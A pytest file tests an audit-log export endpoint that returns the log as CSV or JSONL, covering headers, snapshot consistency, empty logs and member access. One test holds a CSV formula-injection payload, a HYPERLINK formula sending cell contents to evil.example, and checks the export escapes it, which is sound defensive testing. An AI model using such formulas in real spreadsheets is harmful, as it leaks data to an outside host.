"""The log as a file: all of it, safe in a spreadsheet, one view however long it takes."""

from __future__ import annotations

import csv
import io
import json

import pytest

from audit import reader
from audit.domain.reading import Filters
from audit.reader import Reader
from integration.audit.actions import MINE, THEIRS, action
from testkit.messages import deliver
from testkit.outside import MEMBER, Outside
from testkit.services import Service

PATHS = ("/audit/export", "/api/v1/audit/export")


@pytest.fixture(autouse=True)
def _few_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "EXPORTED_AT_ONCE", 7)


def rows_of(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("path", PATHS)
async def test_csv_has_a_line_for_each_field_of_each_entry(audit: Service, outside: Outside, path: str) -> None:
    events = [action(number, diff={"a": ("1", None), "b": (None, '2, "3"\n4')}) for number in range(30)]
    await deliver(audit.consumer("audit"), *events, action(1, workspace_id=THEIRS), action(99, diff={}))
    async with audit.program(outside.token()) as client:
        answer = await client.get(path)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="callmine-audit-log.csv"'
    assert answer.headers["cache-control"] == "private, no-store"
    rows = rows_of(answer.text)
    assert (rows[0]["field"], rows[0]["before"]) == ("", "")
    assert [(row["id"], row["field"], row["after"]) for row in rows[1:]] == [
        (str(event.event_id), *told) for event in reversed(events) for told in (("a", ""), ("b", '2, "3"\n4'))
    ]


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\uff1d", " =", "\u200b=", "\u00a0@"])
async def test_no_cell_is_a_formula(audit: Service, outside: Outside, begins: str) -> None:
    bad = f'{begins}HYPERLINK("https://evil.example/?"&A1,"x")'
    await deliver(audit.consumer("audit"), action(diff={bad: (bad, bad)}, target_id=bad, target_kind=bad))
    async with audit.program(outside.token()) as client:
        [row] = rows_of((await client.get(PATHS[1])).text)
        lines = (await client.get(PATHS[1], params={"format": "jsonl"})).text.splitlines()
    for column in ("field", "before", "after", "target_id", "target_kind"):
        assert row[column] == f"'{bad}"
    assert json.loads(lines[0])["target"]["id"] == bad


async def test_what_arrives_during_an_export_is_not_in_it(audit: Service) -> None:
    """Newer and older ones alike: the file is the log as it was at the beginning."""
    events = [action(number) for number in range(100, 160)]
    await deliver(audit.consumer("audit"), *events)
    told: list[str] = []
    number = 0
    async for entries in Reader(audit.parts.db).everything(MINE, Filters()):
        told += [str(entry.id) for entry in entries]
        await deliver(audit.consumer("audit"), action(number), action(1000 + number))
        number += 1
    assert told == [str(event.event_id) for event in reversed(events)]
    assert number > 8


async def test_an_empty_log_is_an_empty_file(audit: Service, outside: Outside) -> None:
    async with audit.program(outside.token()) as client:
        assert rows_of((await client.get(PATHS[1])).text) == []
        assert (await client.get(PATHS[1], params={"format": "jsonl"})).text == ""


async def test_members_other_forms_and_bad_filters_get_no_file(audit: Service, outside: Outside) -> None:
    async with audit.program(outside.token(MEMBER)) as member, audit.program(outside.token()) as admin:
        for path in PATHS:
            assert (await member.get(path)).status_code == 403
            assert (await admin.get(path, params={"format": "xlsx"})).status_code == 400
            assert (await admin.get(path, params={"type": "report.deleted"})).status_code == 400
